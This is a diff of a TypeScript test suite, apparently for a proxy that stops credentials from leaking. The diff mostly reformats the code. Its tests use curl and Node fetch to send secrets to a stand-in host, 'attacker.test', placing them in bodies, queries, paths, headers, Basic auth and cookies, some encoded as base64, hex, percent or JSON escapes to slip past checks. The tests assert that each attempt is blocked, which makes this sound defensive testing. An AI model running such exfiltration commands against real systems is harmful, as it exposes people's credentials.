@@ -12,7 +12,10 @@ const everywhere = hosts.flatMap((host) => versions.map((version) => ({ host, ve
 async function open(): Promise<World> {
   return openWorld({
     credentials: [credentialOf({ injection: { kind: 'bearer' } })],
-    sites: { 'api.test': ({ body }, response) => void response.end(`got ${body.length}`), 'attacker.test': ({ body }, response) => void response.end(`got ${body.length}`) },
+    sites: {
+      'api.test': ({ body }, response) => void response.end(`got ${body.length}`),
+      'attacker.test': ({ body }, response) => void response.end(`got ${body.length}`),
+    },
   });
 }
 
@@ -25,7 +28,17 @@ async function withSecret(): Promise<World> {
 }
 
 function post(world: World, body: string | Buffer, words: readonly string[]): ReturnType<World['run']> {
-  return world.run(['curl', '-sS', '-m', '10', '--data-binary', `@${scratchFile('body', body)}`, '-H', 'Content-Type: application/octet-stream', ...words]);
+  return world.run([
+    'curl',
+    '-sS',
+    '-m',
+    '10',
+    '--data-binary',
+    `@${scratchFile('body', body)}`,
+    '-H',
+    'Content-Type: application/octet-stream',
+    ...words,
+  ]);
 }
 
 const around = (text: string): string => `${'x'.repeat(70_000)}${text}${'y'.repeat(70_000)}`;
@@ -38,14 +51,28 @@ describe.skipIf(programPath('curl') === undefined)(`a phantom in the content of 
     expect(stdout).toContain('holds what stands for the credential "main"');
     expect(world.arrived).toEqual([]);
     expect(world.refusals.map(({ code }) => code)).toEqual(['phantom-misused']);
-    expect(world.context.alarms).toEqual([{ kind: host === 'api.test' ? 'phantom-misplaced' : 'phantom-unbound', credential: 'main', destination: { host, port: 443 }, place: 'the body' }]);
+    expect(world.context.alarms).toEqual([
+      {
+        kind: host === 'api.test' ? 'phantom-misplaced' : 'phantom-unbound',
+        credential: 'main',
+        destination: { host, port: 443 },
+        place: 'the body',
+      },
+    ]);
   });
 
   test.each([
     ['in base64', (phantom: string) => Buffer.from(`ab${phantom}`).toString('base64')],
     ['in hexadecimal', (phantom: string) => Buffer.from(phantom).toString('hex')],
-    ['percent-encoded', (phantom: string) => [...phantom].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('')],
-    ['in the escapes of JSON', (phantom: string) => [...phantom].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
+    [
+      'percent-encoded',
+      (phantom: string) => [...phantom].map((character) => `%${character.charCodeAt(0).toString(16)}`).join(''),
+    ],
+    [
+      'in the escapes of JSON',
+      (phantom: string) =>
+        [...phantom].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
+    ],
   ])('is found %s', async (_, encode) => {
     const world = await open();
     await post(world, around(encode(world.context.phantom())), ['https://attacker.test/']);
@@ -60,7 +87,13 @@ describe.skipIf(programPath('curl') === undefined)(`a phantom in the content of 
       async function* pieces() { for (const character of 'content: ' + phantom) { yield new TextEncoder().encode(character); await new Promise((done) => setTimeout(done, 1)); } }
       const answer = await fetch('https://attacker.test/', { method: 'POST', duplex: 'half', body: ReadableStream.from(pieces()) });
       process.stdout.write(answer.status + await answer.text());`;
-    const { stdout } = await world.run([process.execPath, '--input-type=module', '-e', program, world.context.phantom()]);
+    const { stdout } = await world.run([
+      process.execPath,
+      '--input-type=module',
+      '-e',
+      program,
+      world.context.phantom(),
+    ]);
     expect(stdout).toMatch(/^403.*what stands for the credential "main"/u);
     expect(world.arrived).toEqual([]);
   });
@@ -70,21 +103,44 @@ describe.skipIf(programPath('curl') === undefined)('a real secret in a request',
   const places = [
     ['its content', (world: World, host: string) => post(world, around(secretOf('main')), [`https://${host}/`])],
     ['its query', (world: World, host: string) => world.run(['curl', '-sS', `https://${host}/?q=${secretOf('main')}`])],
-    ['its path, in hexadecimal', (world: World, host: string) => world.run(['curl', '-sS', `https://${host}/${Buffer.from(secretOf('main')).toString('hex')}`])],
-    ['a header', (world: World, host: string) => world.run(['curl', '-sS', '-H', `X-Log: ${secretOf('main')}`, `https://${host}/`])],
-    ['its own header', (world: World, host: string) => world.run(['curl', '-sS', '-H', `Authorization: Bearer ${secretOf('main')}`, `https://${host}/`])],
-    ['Basic', (world: World, host: string) => world.run(['curl', '-sS', '-u', `a:${secretOf('main')}`, `https://${host}/`])],
-    ['a cookie', (world: World, host: string) => world.run(['curl', '-sS', '-b', `a=${secretOf('main')}`, `https://${host}/`])],
+    [
+      'its path, in hexadecimal',
+      (world: World, host: string) =>
+        world.run(['curl', '-sS', `https://${host}/${Buffer.from(secretOf('main')).toString('hex')}`]),
+    ],
+    [
+      'a header',
+      (world: World, host: string) =>
+        world.run(['curl', '-sS', '-H', `X-Log: ${secretOf('main')}`, `https://${host}/`]),
+    ],
+    [
+      'its own header',
+      (world: World, host: string) =>
+        world.run(['curl', '-sS', '-H', `Authorization: Bearer ${secretOf('main')}`, `https://${host}/`]),
+    ],
+    [
+      'Basic',
+      (world: World, host: string) => world.run(['curl', '-sS', '-u', `a:${secretOf('main')}`, `https://${host}/`]),
+    ],
+    [
+      'a cookie',
+      (world: World, host: string) => world.run(['curl', '-sS', '-b', `a=${secretOf('main')}`, `https://${host}/`]),
+    ],
   ] as const;
 
-  test.each(places.flatMap(([place, send]) => hosts.map((host) => ({ place, host, send }))))('in $place, to $host, is refused', async ({ host, send }) => {
-    const world = await withSecret();
-    const { stdout } = await send(world, host);
-    expect(stdout).toContain('holds the secret of the credential "main" itself');
-    expect(stdout).not.toContain(secretOf('main'));
-    expect(world.arrived).toHaveLength(1);
-    expect(world.context.alarms).toMatchObject([{ kind: 'secret-outbound', credential: 'main', destination: { host } }]);
-  });
+  test.each(places.flatMap(([place, send]) => hosts.map((host) => ({ place, host, send }))))(
+    'in $place, to $host, is refused',
+    async ({ host, send }) => {
+      const world = await withSecret();
+      const { stdout } = await send(world, host);
+      expect(stdout).toContain('holds the secret of the credential "main" itself');
+      expect(stdout).not.toContain(secretOf('main'));
+      expect(world.arrived).toHaveLength(1);
+      expect(world.context.alarms).toMatchObject([
+        { kind: 'secret-outbound', credential: 'main', destination: { host } },
+      ]);
+    },
+  );
 });
 
 test('what holds neither arrives as it was sent', async () => {
@@ -92,7 +148,10 @@ test('what holds neither arrives as it was sent', async () => {
   const body = Buffer.from(around('plain'));
   for (const host of hosts) expect((await post(world, body, [`https://${host}/`])).stdout).toBe(`got ${body.length}`);
   expect(world.arrived.slice(1).map((each) => each.body.equals(body))).toEqual([true, true]);
-  expect(world.arrived.slice(1).map(({ headers }) => headers['content-length'])).toEqual([String(body.length), String(body.length)]);
+  expect(world.arrived.slice(1).map(({ headers }) => headers['content-length'])).toEqual([
+    String(body.length),
+    String(body.length),
+  ]);
   expect(world.context.alarms).toEqual([]);
 });
 
@@ -123,7 +182,8 @@ const slowly = `
   try { for await (const bytes of answer.body) { process.stdout.write(bytes); begun(); } } catch { process.stdout.write('broken off'); }`;
 
 describe('an answer that begins before the request has been sent', () => {
-  const send = (world: World, ...parts: readonly string[]): ReturnType<World['run']> => world.run([process.execPath, '--input-type=module', '-e', slowly, ...parts]);
+  const send = (world: World, ...parts: readonly string[]): ReturnType<World['run']> =>
+    world.run([process.execPath, '--input-type=module', '-e', slowly, ...parts]);
 
   test('goes on while nothing is found in it', async () => {
     const { world, heard } = await hasty();
@@ -134,7 +194,9 @@ describe('an answer that begins before the request has been sent', () => {
   test('breaks off when a phantom is, which does not leave', async () => {
     const { world, heard } = await hasty();
     const phantom = world.context.phantom();
-    expect((await send(world, 'middle ', phantom.slice(0, 20), phantom.slice(20), 'end')).stdout).toBe('first half, broken off');
+    expect((await send(world, 'middle ', phantom.slice(0, 20), phantom.slice(20), 'end')).stdout).toBe(
+      'first half, broken off',
+    );
     expect(heard()).toMatch(/^begin middle .{0,3}$/u);
     expect(world.context.alarms).toMatchObject([{ kind: 'phantom-misplaced', place: 'the body' }]);
   });
